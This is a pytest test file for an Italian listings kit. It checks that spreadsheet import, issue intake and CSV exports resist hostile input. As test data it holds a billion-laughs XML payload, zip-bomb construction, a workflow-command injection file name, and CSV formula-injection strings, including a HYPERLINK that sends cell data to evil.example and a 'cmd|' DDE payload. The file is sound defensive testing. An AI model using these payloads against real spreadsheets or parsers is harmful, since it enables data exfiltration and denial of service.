"""Issue 10, import, intake and spreadsheets: hostile files, issue bodies and cells, and what goes back out.

Each test names the class it closes; each one fails without the fix it covers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import time
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml
from bds import cells, review
from bds.intake import issue, spreadsheet
from bds.outcomes import render as outcomes_render
from bds.web import context, exports
from conftest import REPO, TODAY, copy_fixture_project, run_cli
from test_intake import GOOD, HEADER, _content, _row, _write_csv, render_issue

IMPORT = ["import", "opportunities"]


@pytest.fixture
def project(tmp_path) -> Path:
    return copy_fixture_project(tmp_path / "progetto")


def _import(project: Path, sheet: Path, *extra) -> object:
    return run_cli(["--root", project, *IMPORT, sheet, "--partner", "coop-esempio", "--today", TODAY, *extra])


def _nothing_written(project: Path) -> bool:
    return list((project / "opportunities").iterdir()) == []


def _refused(run, code: str) -> bool:
    return run.code == 1 and f"[{code}]" in run.err and "Traceback" not in run.err


# -- bds import: size, rows, columns -----------------------------------------------------------------------


def test_a_file_over_the_size_limit_is_refused_before_reading(project, tmp_path):
    sheet = tmp_path / "enorme.csv"
    with open(sheet, "wb") as fh:
        fh.write(b"Titolo;Sintesi\n")
        fh.truncate(spreadsheet.MAX_BYTES + 1)  # sparse: no time spent writing it
    run = _import(project, sheet)
    assert _refused(run, "IMPORT_FILE_TOO_LARGE") and _nothing_written(project), run.err


def test_too_many_rows_are_refused_and_nothing_is_written(project, tmp_path):
    rows = [_row(f"Tirocinio numero {i}") for i in range(spreadsheet.MAX_ROWS)]
    sheet = _write_csv(tmp_path / "tante.csv", HEADER, rows)
    run = _import(project, sheet)
    assert _refused(run, "IMPORT_TOO_MANY_ROWS") and _nothing_written(project), run.err
    assert f"riga {spreadsheet.MAX_ROWS + 1}:" in run.err


def test_empty_rows_at_the_end_do_not_count_but_a_row_far_below_does(project, tmp_path):
    sheet = tmp_path / "vuote.csv"
    good = _write_csv(tmp_path / "g.csv", HEADER, [_row("Tirocinio all'orto")]).read_text(encoding="utf-8")
    sheet.write_text(good + ",,,\n" * (spreadsheet.MAX_ROWS + 10), encoding="utf-8")
    assert _import(project, sheet, "--dry-run").code == 0
    far = tmp_path / "lontana.csv"
    far.write_text(good + "\n" * spreadsheet.MAX_SCANNED_ROWS + "x,y\n", encoding="utf-8")
    assert _refused(_import(project, far), "IMPORT_TOO_MANY_ROWS")


def test_too_many_columns_are_refused(project, tmp_path):
    header = HEADER + [f"extra {i}" for i in range(spreadsheet.MAX_COLUMNS)]
    sheet = _write_csv(tmp_path / "larga.csv", header, [_row("Orto") + ["x"] * spreadsheet.MAX_COLUMNS])
    run = _import(project, sheet)
    assert _refused(run, "IMPORT_TOO_MANY_COLUMNS") and _nothing_written(project), run.err


# -- bds import: XLSX before openpyxl reads it -------------------------------------------------------------


def _workbook(tmp_path: Path) -> Path:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    book.active.append(_row("Tirocinio in biblioteca"))
    path = tmp_path / "buono.xlsx"
    book.save(path)
    return path


def _rewrite(src: Path, dst: Path, change) -> Path:
    """A copy of the workbook with some members changed (`change(name, data)` -> bytes, None drops it)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = change(item.filename, zin.read(item.filename))
            if data is not None:
                zout.writestr(item.filename, data)
        extra = change("+", None)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dst


def test_a_good_workbook_still_imports(project, tmp_path):
    run = _import(project, _workbook(tmp_path))
    assert run.code == 0, run.err
    assert [p.name for p in (project / "opportunities").iterdir()] == ["tirocinio-in-biblioteca.yml"]


def test_a_zip_bomb_is_refused_without_inflating_it(project, tmp_path):
    bomb_size = 60 * 1024 * 1024  # compresses to ~60 KB

    def add_bomb(name, data):
        return {"xl/media/riempitivo.xml": b" " * bomb_size} if name == "+" else data

    path = _rewrite(_workbook(tmp_path), tmp_path / "bomba.xlsx", add_bomb)
    assert path.stat().st_size < 1024 * 1024
    started = time.monotonic()
    run = _import(project, path)
    assert _refused(run, "IMPORT_XLSX_UNSAFE") and _nothing_written(project), run.err
    assert time.monotonic() - started < 5


def test_a_highly_compressed_member_is_refused(project, tmp_path, monkeypatch):
    def add(name, data):
        return {"xl/worksheets/sheet2.xml": b"<a/>" * (2 * 1024 * 1024)} if name == "+" else data

    path = _rewrite(_workbook(tmp_path), tmp_path / "rapporto.xlsx", add)
    run = _import(project, path)
    assert _refused(run, "IMPORT_XLSX_UNSAFE") and "zip bomb" in run.err, run.err


def test_huge_shared_strings_are_refused(project, tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheet, "XLSX_MAX_SHARED_STRINGS", 64 * 1024)
    strings = os.urandom(128 * 1024).hex().encode()  # does not compress much: not a ratio problem

    def add(name, data):
        return {"xl/sharedStrings.xml": strings} if name == "+" else data

    run = _import(project, _rewrite(_workbook(tmp_path), tmp_path / "testi.xlsx", add))
    assert _refused(run, "IMPORT_XLSX_UNSAFE") and "testi delle celle" in run.err, run.err


LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1 if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>\n"
)


@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml"])
def test_xml_with_a_doctype_or_entities_is_refused(project, tmp_path, member):
    def add_laughs(name, data):
        if name == member:
            return LAUGHS + data.split(b"?>", 1)[-1] if data.startswith(b"<?xml") else LAUGHS + data
        return None if name == "+" else data

    started = time.monotonic()
    run = _import(project, _rewrite(_workbook(tmp_path), tmp_path / "risate.xlsx", add_laughs))
    assert _refused(run, "IMPORT_XLSX_UNSAFE") and "DOCTYPE" in run.err, run.err
    assert time.monotonic() - started < 5 and _nothing_written(project)


def test_xml_in_utf16_cannot_hide_a_doctype(project, tmp_path):
    def utf16(name, data):
        if name == "xl/worksheets/sheet1.xml":
            return data.decode("utf-8").encode("utf-16")
        return None if name == "+" else data

    run = _import(project, _rewrite(_workbook(tmp_path), tmp_path / "utf16.xlsx", utf16))
    assert _refused(run, "IMPORT_XLSX_UNSAFE"), run.err


@pytest.mark.parametrize("how", ["empty sheets element", "no sheets element"])
def test_a_workbook_with_no_sheet_is_a_clear_error(project, tmp_path, how):
    def drop_sheets(name, data):
        if name == "xl/workbook.xml":
            replacement = b"<sheets/>" if how == "empty sheets element" else b""
            return re.sub(rb"<sheets>.*</sheets>", replacement, data)
        return None if name == "+" else data

    run = _import(project, _rewrite(_workbook(tmp_path), tmp_path / "senza-fogli.xlsx", drop_sheets))
    assert _refused(run, "IMPORT_NO_SHEET") and _nothing_written(project), run.err


def test_a_workbook_declaring_too_many_columns_is_refused(project, tmp_path):
    def wide(name, data):
        if name == "xl/worksheets/sheet1.xml":
            return re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD2"', data)
        return None if name == "+" else data

    run = _import(project, _rewrite(_workbook(tmp_path), tmp_path / "larga.xlsx", wide))
    assert _refused(run, "IMPORT_TOO_MANY_COLUMNS"), run.err


def test_a_file_that_is_not_a_zip_is_a_clean_error(project, tmp_path):
    fake = tmp_path / "finto.xlsx"
    fake.write_text("Titolo;Sintesi\nx;y\n", encoding="utf-8")
    run = _import(project, fake)
    assert run.code == 2 and "xlsx leggibile" in run.err and "Traceback" not in run.err


# -- bds import: encoding and NUL bytes --------------------------------------------------------------------


def _accented_csv(tmp_path: Path) -> bytes:
    sheet = _write_csv(tmp_path / "a.csv", HEADER, [_row("Attività all'orto", Sintesi="Caffè e città.")])
    return sheet.read_bytes()


def test_one_stray_byte_in_utf8_is_located_never_read_as_latin1(project, tmp_path):
    raw = _accented_csv(tmp_path)
    line_start = raw.index(b"\n") + 1
    broken = raw[:line_start] + b"Caff\xe8 " + raw[line_start:]  # one Latin-1 byte on line 2
    sheet = tmp_path / "misto.csv"
    sheet.write_bytes(broken)
    run = _import(project, sheet)
    assert _refused(run, "IMPORT_NOT_UTF8") and _nothing_written(project), run.err
    assert "riga 2, colonna 5" in run.err and f"posizione {line_start + 4}" in run.err and "0xE8" in run.err
    assert "Ã" not in run.err


def test_a_windows_1252_file_needs_to_be_named_and_then_keeps_its_accents(project, tmp_path):
    text = _accented_csv(tmp_path).decode("utf-8")
    sheet = tmp_path / "vecchio-excel.csv"
    sheet.write_bytes(text.encode("cp1252"))
    assert _refused(_import(project, sheet), "IMPORT_NOT_UTF8") and _nothing_written(project)
    run = _import(project, sheet, "--encoding", "cp1252")
    assert run.code == 0, run.err
    data = yaml.safe_load((project / "opportunities" / "attivita-all-orto.yml").read_text(encoding="utf-8"))
    assert data["title"] == "Attività all'orto" and data["summary"] == "Caffè e città."


@pytest.mark.parametrize("codec", ["utf-8-sig", "utf-16", "utf-32"])
def test_byte_order_marks_are_read_properly(project, tmp_path, codec):
    sheet = tmp_path / "bom.csv"
    sheet.write_bytes(_accented_csv(tmp_path).decode("utf-8").encode(codec))
    run = _import(project, sheet)
    assert run.code == 0, run.err
    data = yaml.safe_load((project / "opportunities" / "attivita-all-orto.yml").read_text(encoding="utf-8"))
    assert data["summary"] == "Caffè e città."


def test_a_nul_byte_is_refused_with_its_position(project, tmp_path):
    raw = _accented_csv(tmp_path)
    sheet = tmp_path / "nul.csv"
    sheet.write_bytes(raw.replace(b"Orto", b"Or\x00to", 1))
    run = _import(project, sheet)
    assert _refused(run, "IMPORT_NUL_BYTE") and "riga 2" in run.err and _nothing_written(project), run.err


def test_utf16_without_a_bom_is_not_guessed(project, tmp_path):
    sheet = tmp_path / "utf16le.csv"
    sheet.write_bytes(_accented_csv(tmp_path).decode("utf-8").encode("utf-16-le"))
    assert _refused(_import(project, sheet), "IMPORT_NUL_BYTE") and _nothing_written(project)


@pytest.mark.parametrize("char", ["\u202e", "\u200b", "\x07", "\ufeff", "\u2028"])
def test_invisible_and_control_characters_in_a_cell_are_refused(project, tmp_path, char):
    sheet = _write_csv(tmp_path / "c.csv", HEADER, [_row("Orto", Sintesi=f"Un tirocinio{char} nell'orto.")])
    run = _import(project, sheet)
    assert run.code == 1 and re.search(
        rf":riga 2:colonna «Sintesi»: errore \[INTAKE_CHARACTER_FORBIDDEN\].*U\+{ord(char):04X}", run.err
    ), run.err
    assert _nothing_written(project)


# -- bds import --update: only the same partner ------------------------------------------------------------


def test_update_never_replaces_a_listing_of_another_partner(project, tmp_path):
    partners = project / "content" / "partners"
    other = (partners / "coop-esempio.yml").read_text(encoding="utf-8")
    other = other.replace("id: coop-esempio", "id: altra-coop").replace("di esempio", "altra")
    (partners / "altra-coop.yml").write_text(other, encoding="utf-8")
    sheet = _write_csv(tmp_path / "a.csv", HEADER, [_row("Tirocinio all'orto")])
    first = run_cli(["--root", project, *IMPORT, sheet, "--partner", "altra-coop", "--today", TODAY])
    assert first.code == 0, first.err
    target = project / "opportunities" / "tirocinio-all-orto.yml"
    before = target.read_bytes()
    changed = _write_csv(tmp_path / "b.csv", HEADER, [_row("Tirocinio all'orto", Sintesi="Sintesi nuova.")])
    run = _import(project, changed, "--update")
    assert run.code == 1 and re.search(
        r"colonna «Ente proponente»: errore \[IMPORT_OTHER_PARTNER\].*«altra-coop».*«coop-esempio»", run.err
    ), run.err
    assert target.read_bytes() == before
    same = run_cli(
        ["--root", project, *IMPORT, changed, "--partner", "altra-coop", "--update", "--today", TODAY]
    )
    assert same.code == 0 and b"Sintesi nuova." in target.read_bytes(), same.err


# -- issue intake: headings, characters, what is posted back -----------------------------------------------


def _issue(project: Path, body: str, *extra):
    path = project / "issue.md"
    path.write_text(body, encoding="utf-8")
    return run_cli(["--root", project, "intake", "issue", path, "--today", TODAY, *extra])


def test_a_heading_typed_inside_an_answer_cannot_override_another_field(project):
    hostile = "Un gruppo che cammina.\n\n### Titolo\n\nUn altro titolo\n\n### Email\n\nattacco@example.org"
    body = render_issue(dict(GOOD, description=hostile), _content(project))
    run = _issue(project, body)
    assert run.code == 1 and "campo «Titolo»: errore [INTAKE_HEADING_AMBIGUOUS]" in run.err, run.err
    assert "campo «Email»: errore [INTAKE_HEADING_AMBIGUOUS]" in run.err
    assert _nothing_written(project)
    found, ambiguous = issue.sections(body, [e for e in ("Titolo", "Descrizione", "Email")])
    assert {label for label, _ in ambiguous} == {"Titolo", "Email"}


def test_a_heading_moved_out_of_order_is_ambiguous(project):
    body = render_issue(GOOD, _content(project))
    moved = "### Titolo\n\nTitolo spostato in fondo\n"
    body = body.replace("### Titolo\n\nGruppo di cammino\n\n", "", 1) + "\n" + moved
    run = _issue(project, body)
    assert run.code == 1 and "[INTAKE_HEADING_AMBIGUOUS]" in run.err and "fuori posto" in run.err, run.err


def test_an_unknown_heading_inside_an_answer_stays_part_of_it(project):
    description = "Un gruppo che cammina.\n\n### Note per chi viene\n\nScarpe comode."
    run = _issue(project, render_issue(dict(GOOD, description=description), _content(project)))
    assert run.code == 0, run.err
    data = yaml.safe_load((project / "opportunities" / "gruppo-di-cammino.yml").read_text(encoding="utf-8"))
    assert "### Note per chi viene" in data["description"] and "Scarpe comode." in data["description"]


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200d", "\x1b", "\ufffe"])
def test_bidi_and_control_characters_in_answers_are_refused(project, char):
    run = _issue(project, render_issue(dict(GOOD, title=f"Gruppo{char} di cammino"), _content(project)))
    assert run.code == 1 and "campo «Titolo»: errore [INTAKE_CHARACTER_FORBIDDEN]" in run.err, run.err
    assert f"U+{ord(char):04X}" in run.err and _nothing_written(project)


HOSTILE = (
    '@octocat @org/team ![x](https://tracker.example/p.png) <img src="https://tracker.example/a.png"> '
    "[clic](https://x.example) owner/repo#1 #2 <b>grassetto</b> &#64;someone"
)


def test_the_comment_posted_back_notifies_nobody_and_loads_nothing(project):
    run = _issue(
        project, render_issue(dict(GOOD, partner=HOSTILE), _content(project)), "--format", "markdown"
    )
    assert run.code == 1 and "**Ente proponente**" in run.out, run.out
    assert "`@octocat`" in run.out and "`@org/team`" in run.out
    _assert_inert(run.out)
    _assert_inert(issue.github_text(HOSTILE))
    assert "`owner/repo#1`" in issue.github_text(HOSTILE) and "`#2`" in issue.github_text(HOSTILE)


def _assert_inert(comment: str) -> None:
    outside_code = re.sub(r"`[^`\n]*`", "", comment)
    assert not re.search(r"(?<!\\)@[A-Za-z0-9]", outside_code), comment  # every mention is in a code span
    assert not re.search(r"(?<!\\)!\[|(?<!\\)<[a-z]|(?<!\\)\]\(|(?<!\\)&#", comment), comment
    assert not re.search(r"(?<!\\)#[0-9]", outside_code), comment


def test_github_text_escapes_without_invisible_characters():
    text = issue.github_text("=1+1 @bob\n# titolo <script> \u202e")
    assert "\n" not in text and "`@bob`" in text and "\\<script\\>" in text
    assert not any(ch in text for ch in "\u200b\u200c\u200d\u2060\u202e")


# -- the GitHub side ---------------------------------------------------------------------------------------


def _workflow(name: str) -> dict:
    return yaml.safe_load((REPO / ".github" / "workflows" / name).read_text(encoding="utf-8"))


def test_the_intake_pull_request_is_built_from_one_revision_of_the_issue():
    data = _workflow("intake-issue.yml")
    steps = data["jobs"]["intake"]["steps"]
    names = [s.get("name", s.get("uses", "")) for s in steps]
    capture = next(s for s in steps if s.get("id") == "body")
    assert "sha256sum" in capture["run"] and capture["env"]["BODY"] == "${{ github.event.issue.body }}"
    intake = next(s for s in steps if s.get("id") == "intake")
    assert "BODY" not in intake.get("env", {})  # the text is read once, into the file that is hashed
    pr = next(s for s in steps if s.get("id") == "pr")
    assert "steps.body.outputs.short" in pr["with"]["branch"]
    assert "steps.body.outputs.sha" in pr["with"]["body"] and "updated_at" in pr["with"]["body"]
    close = next(s for s in steps if "gh pr close" in s.get("run", ""))
    assert names.index(close["name"]) > names.index(pr["name"])
    # an edit of the title alone does not run it; an edit of the text does (and opens a new PR)
    assert "github.event.changes.body" in data["jobs"]["intake"]["if"]


def test_the_intake_workflow_validates_before_opening_the_pull_request():
    steps = _workflow("intake-issue.yml")["jobs"]["intake"]["steps"]
    check = next(i for i, s in enumerate(steps) if s.get("id") == "check")
    pr = next(i for i, s in enumerate(steps) if s.get("id") == "pr")
    assert check < pr
    assert "bds validate" in steps[check]["run"] and "bds.review --intake" in steps[check]["run"]
    assert steps[check]["if"] == steps[pr]["if"] == "steps.intake.outputs.ok == 'true'"


def test_the_path_check_runs_the_base_version_and_never_checks_out_the_pull_request():
    data = _workflow("pr-paths.yml")
    assert list(data[True]) == ["pull_request_target"]  # yaml reads the key `on` as True
    job = data["jobs"]["paths"]
    assert job["permissions"] == {"contents": "read", "pull-requests": "read"}
    for step in job["steps"]:
        assert "ref" not in step.get("with", {}), "checking out the pull request's code is not allowed"
        assert "github.event.pull_request.head" not in str(step)
    assert any("bds.review" in s.get("run", "") for s in job["steps"])


def _owners(path: str) -> list[str]:
    """Who owns `path` by .github/CODEOWNERS (last matching line wins; the patterns used there)."""
    owners: list[str] = []
    for line in (REPO / ".github" / "CODEOWNERS").read_text(encoding="utf-8").splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        pattern, *who = line.split()
        if (
            pattern == "*"
            or (pattern.endswith("/") and ("/" + path).startswith(pattern))
            or "/" + path == pattern
        ):
            owners = who
    return owners


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/intake-issue.yml",
        ".github/CODEOWNERS",
        "scripts/bds/cli.py",
        "schemas/opportunity.schema.json",
        "mkdocs.yml",
        "pyproject.toml",
        "scripts/requirements.lock",
        "content/territory.yml",
        "tests/conftest.py",
    ],
)
def test_codeowners_gives_code_workflows_and_configuration_to_the_maintainers(path):
    assert _owners(path) == ["@bds-territorio/manutentori"]


@pytest.mark.parametrize(
    "path", ["opportunities/corso.yml", "content/partners/coop.yml", "content/guides/a.md"]
)
def test_codeowners_gives_content_to_the_coordinators(path):
    assert _owners(path) == ["@bds-territorio/coordinamento"]


@pytest.mark.parametrize(
    "paths, expected",
    [
        (["opportunities/a.yml", "content/partners/b.yml"], 0),
        (["scripts/bds/cli.py", "tests/test_cli.py"], 0),
        (["opportunities/a.yml", ".github/workflows/validate.yml"], 1),
        (["opportunities/a.yml", "content/territory.yml"], 1),
        (["content/guides/x.md", "mkdocs.yml"], 1),
        (["opportunities/../scripts/x.py", "opportunities/a.yml"], 1),
    ],
)
def test_the_path_check_fails_a_content_change_that_touches_code(tmp_path, paths, expected, capsys):
    listed = tmp_path / "changed.txt"
    listed.write_text("\n".join(paths) + "\n", encoding="utf-8")
    assert review.main([str(listed)]) == expected
    out = capsys.readouterr().out
    assert ("::error" in out) == bool(expected)


@pytest.mark.parametrize(
    "paths, ok",
    [
        (["opportunities/gruppo-di-cammino.yml"], True),
        (["opportunities/a.yml", "opportunities/b.yml"], False),
        (["opportunities/a.yml", "scripts/bds/cli.py"], False),
        (["content/partners/a.yml"], False),
        ([], False),
    ],
)
def test_the_intake_check_accepts_exactly_one_new_listing(paths, ok):
    assert (review.problems(paths, intake=True) == []) == ok


def test_the_path_check_neutralises_odd_file_names():
    message = review.problems(["opportunities/a.yml", "scripts/x\n::set-output name=x::y%0A.py"])
    assert all("\n" not in m for m in message) and "%25" in message[-1]


# -- formula injection: every CSV the kit writes -----------------------------------------------------------

ATTACKS = [
    '=HYPERLINK("https://evil.example/?d="&A1;"clic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+39 02 1234 5678",
    "\t=1+1",
    "\r=1+1",
    "'=già protetta",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_neutralise_protects_text_and_round_trips(value):
    safe = cells.neutralise(value)
    assert safe.startswith("'") and cells.restore(safe) == value


@pytest.mark.parametrize("value", ["Gruppo di cammino", "", "Caffè = socialità", "3 posti", "a-b"])
def test_neutralise_leaves_ordinary_text_alone(value):
    assert cells.neutralise(value) == value


def test_numbers_stay_numbers():
    assert cells.neutralise(-3) == -3 and cells.neutralise(2.5) == 2.5 and cells.neutralise(None) is None
    assert cells.neutralise("-3", numeric=True) == "-3" and cells.neutralise("-1,5", numeric=True) == "-1,5"
    assert cells.neutralise("-3") == "'-3"  # a text column: «-3» as a title is text
    assert cells.neutralise("=1+2", numeric=True) == "'=1+2"
    assert cells.row(["-3", "-3", 7], numeric={1}) == ["'-3", "-3", 7]


DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells_of(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(
        csv.reader(io.StringIO(text, newline=""), delimiter=";" if text.count(";") > text.count(",") else ",")
    )


def _ctx(listings):
    import datetime as dt

    territory = {"programme": "Prova", "zones": [{"id": "zona-1", "label": "Zona uno"}]}
    partners = [
        {"id": "ente-a", "name": "=Ente(A)", "type": "associazione", "contact": {"phone": "+39 02 1"}}
    ]
    return context.SiteContext.create(
        territory, listings, partners, [], [], dt.date(2026, 12, 31), inline_qr=False
    )


def _hostile_listing(i: int, title: str) -> dict:
    return {
        "id": f"scheda-{i}",
        "title": title,
        "kind": "training",
        "axes": ["work"],
        "partner": "ente-a",
        "summary": "@SUM(A1:A9)",
        "schedule": "-il martedì",
        "zones": ["zona-1"],
        "status": "open",
        "reviewed": "2026-10-01",
        "places": 5,
        "stipend": 350,
        "contact": {"phone": "+39 02 1234 5678", "email": "a@x.example"},
    }


def test_the_open_data_csv_neutralises_every_text_cell_and_keeps_numbers():
    listings = [_hostile_listing(i, title) for i, title in enumerate(ATTACKS)]
    rows = _cells_of(exports.listings_csv(_ctx(listings)))
    header, body = rows[0], rows[1:]
    assert len(body) == len(ATTACKS)
    for row in body:
        for name, value in zip(header, row, strict=True):
            assert not value.startswith(DANGEROUS), (name, value)
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    for i, title in enumerate(ATTACKS):
        record = by_id[f"scheda-{i}"]
        assert cells.restore(record["titolo"]) == title  # what a machine does, per the data package
        assert record["posti"] == "5" and record["indennita_mensile"] == "350"
    assert "apostrofo" in exports.datapackage(_ctx(listings)).decode("utf-8")


def test_the_template_csv_is_neutral(project):
    for row in _cells_of(spreadsheet.template_csv(_content(project))):
        assert not any(c.startswith(DANGEROUS) for c in row), row


def test_the_outcomes_tables_neutralise_labels_but_keep_signed_numbers():
    table = SimpleNamespace(
        dims=["zona", "indicatore"], rows=[(("=cmd|x", "@a"), "k1"), (("nord", "delta"), "k2")]
    )
    agg = SimpleNamespace(
        cells={
            "k1": SimpleNamespace(shown="=2+2", status="published"),
            "k2": SimpleNamespace(shown="-1.5", status="+x"),
        }
    )
    rows = _cells_of(outcomes_render.table_csv(agg, table))
    assert rows[1] == ["'=cmd|x", "'@a", "'=2+2", "published"]
    assert rows[2] == ["nord", "delta", "-1.5", "'+x"]


def test_the_freshness_csv_neutralises_every_text_cell():
    from bds import freshness as fr
    from bds.publish import freshness_report

    listing = _hostile_listing(1, '=HYPERLINK("x")')
    ctx = _ctx([listing])
    item = fr.Item(
        "opportunities/scheda-1.yml",
        "opportunity",
        "scheda-1",
        listing["title"],
        (fr.Reason(fr.EXPIRED, "dates.end", "2026-12-01", -30),),
    )
    report = fr.Freshness(ctx.today, 30, 180, [fr.Group("ente-a", "=Ente(A)", [item])])
    rows = _cells_of(freshness_report.csv_bytes(freshness_report.entries(report, ctx)))
    for row in rows[1:]:
        assert not any(c.startswith(DANGEROUS) and not re.fullmatch(r"-?[0-9]+", c) for c in row), row
    assert "-30" in rows[1]  # days since expiry: a number, left as a number
    assert any(c == '\'=HYPERLINK("x")' for c in rows[1])  # neutralised once, not twice


def test_the_outcomes_templates_are_neutral():
    for path in sorted((REPO / "schemas" / "outcomes" / "templates").glob("*.csv")):
        for row in _cells_of(path.read_bytes()):
            assert not any(c.startswith(DANGEROUS) for c in row), path


def test_the_open_data_page_says_how_to_read_the_apostrophe():
    from bds.web import render

    text = " ".join(d for f, _, d in render.open_data_files() if f == "dati/opportunita.csv")
    assert "apostrofo" in text and "formule" in text


HOSTILE_LISTING = """\
id: ostile
title: '=HYPERLINK("https://evil.example";"clic")'
kind: social
axes: [social]
partner: coop-esempio
description: Una descrizione.
summary: "@SUM(1+1) si cammina insieme una volta a settimana."
audience: [citizens]
access: direct
zones: [zona-nord]
location:
  name: "-Parco"
  visibility: public
schedule: "+il martedì"
places: 6
contact:
  phone: "+39 02 1234 5678"
status: open
reviewed: "2026-05-01"
"""


def test_every_csv_of_a_built_site_is_neutral(project, tmp_path):
    (project / "opportunities" / "ostile.yml").write_text(HOSTILE_LISTING, encoding="utf-8")
    out = tmp_path / "sito"
    run = run_cli(["--root", project, "build", "--out", out, "--today", "2026-06-01"])
    assert run.code == 0, run.err
    written = sorted(p for p in out.rglob("*") if p.suffix.lower() in (".csv", ".xlsx", ".tsv"))
    assert {p.name for p in written} >= {"opportunita.csv", "modello-opportunita.csv"}
    for path in written:
        for row in _cells_of(path.read_bytes()):
            bad = [
                c for c in row if c.startswith(DANGEROUS) and not re.fullmatch(r"-?[0-9]+([.,][0-9]+)?", c)
            ]
            assert bad == [], (path.name, bad)
    rows = list(csv.DictReader(io.StringIO((out / "dati" / "opportunita.csv").read_text(encoding="utf-8"))))
    listing = next(r for r in rows if r["id"] == "ostile")
    assert cells.restore(listing["titolo"]) == '=HYPERLINK("https://evil.example";"clic")'
    assert cells.restore(listing["telefono"]) == "+39 02 1234 5678" and listing["posti"] == "6"


def test_broken_utf16_is_located_too(project, tmp_path):
    text = _accented_csv(tmp_path).decode("utf-8")
    raw = text.encode("utf-16")  # BOM + little-endian
    cut = raw.index("Orto".encode("utf-16-le"))
    sheet = tmp_path / "rotto.csv"
    sheet.write_bytes(raw[:cut] + b"\x00\xd8" + raw[cut:])  # a lone high surrogate
    run = _import(project, sheet)
    assert _refused(run, "IMPORT_NOT_UTF8") and "UTF-16" in run.err and "riga 2" in run.err, run.err
    assert _nothing_written(project)


def test_a_doctype_in_a_member_with_an_odd_name_is_refused(project, tmp_path):
    """The relationships can point the sheet at any name: every XML-looking member is scanned."""

    def rename(name, data):
        if name == "xl/worksheets/sheet1.xml":
            return None
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"worksheets/sheet1.xml", b"worksheets/foglio.bin")
        if name == "[Content_Types].xml":
            return data.replace(b"/xl/worksheets/sheet1.xml", b"/xl/worksheets/foglio.bin")
        if name == "+":
            return {"xl/worksheets/foglio.bin": LAUGHS + sheet.split(b"?>", 1)[-1]}
        return data

    source = _workbook(tmp_path)
    with zipfile.ZipFile(source) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    run = _import(project, _rewrite(source, tmp_path / "nome-strano.xlsx", rename))
    assert _refused(run, "IMPORT_XLSX_UNSAFE") and "DOCTYPE" in run.err, run.err


def test_a_picture_in_the_workbook_is_not_mistaken_for_xml(project, tmp_path):
    def add_picture(name, data):
        return {"xl/media/image1.png": b"\x89PNG\r\n\x1a\n" + os.urandom(4096)} if name == "+" else data

    run = _import(project, _rewrite(_workbook(tmp_path), tmp_path / "con-immagine.xlsx", add_picture))
    assert run.code == 0, run.err


def test_the_freshness_issue_body_is_inert_too():
    """The weekly workflow posts this list as an issue body: titles and names come from the content."""
    import datetime as dt

    from bds import freshness as fr

    item = fr.Item(
        "opportunities/una.yml",
        "opportunity",
        "una",
        "@octocat ![x](https://tracker.example/p.png) <img src=x>",
        (fr.Reason(fr.EXPIRED, "dates.end", "2026-12-01", 30),),
    )
    report = fr.Freshness(dt.date(2026, 12, 31), 30, 180, [fr.Group("ente-a", "<b>@org/team</b>", [item])])
    body = fr.markdown(report, "https://example.org/repo")
    _assert_inert(body.replace("(https://example.org/repo/blob/main/opportunities/una.yml)", ""))
    assert "`@octocat`" in body and "`@org/team`" in body


def test_import_reads_back_the_kit_own_apostrophe(project, tmp_path):
    """A CSV the kit wrote (template, open data) imports with the original text, as documented."""
    sheet = _write_csv(
        tmp_path / "giro.csv",
        HEADER,
        [_row("'-Tirocinio all'orto", Sintesi="'=Una sintesi, non una formula.")],
    )
    run = _import(project, sheet)
    assert run.code == 0, run.err
    data = yaml.safe_load((project / "opportunities" / "tirocinio-all-orto.yml").read_text(encoding="utf-8"))
    assert data["title"] == "-Tirocinio all'orto" and data["summary"] == "=Una sintesi, non una formula."
    assert cells.read_back("'Ndrangheta") == "'Ndrangheta" and cells.read_back("''x") == "'x"


def test_a_cell_a_million_rows_down_is_refused_quickly(project, tmp_path):
    def far(name, data):
        if name == "xl/worksheets/sheet1.xml":
            cell = b'<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>z</t></is></c></row>'
            return data.replace(b"</sheetData>", cell + b"</sheetData>")
        return None if name == "+" else data

    started = time.monotonic()
    run = _import(project, _rewrite(_workbook(tmp_path), tmp_path / "lontana.xlsx", far))
    assert _refused(run, "IMPORT_TOO_MANY_ROWS") and _nothing_written(project), run.err
    assert time.monotonic() - started < 10


def test_rows_past_a_stale_dimension_are_read_not_dropped(project, tmp_path):
    def stale(name, data):
        if name == "xl/worksheets/sheet1.xml":
            return re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:B1"', data)
        return None if name == "+" else data

    run = _import(project, _rewrite(_workbook(tmp_path), tmp_path / "dimensione.xlsx", stale))
    assert run.code == 0, run.err
    assert [p.name for p in (project / "opportunities").iterdir()] == ["tirocinio-in-biblioteca.yml"]


@pytest.mark.parametrize(
    "filler", ["\n" * 65_000, " " * 65_000, "### \n" * 15_000, "- [ ] " * 10_000, "@a#1![" * 10_000]
)
def test_reading_an_issue_body_is_linear(project, filler):
    """GitHub bodies reach 65,536 characters: no answer, however odd, may make the parser crawl."""
    content = _content(project)
    body = render_issue(dict(GOOD, description="x" + filler), content)
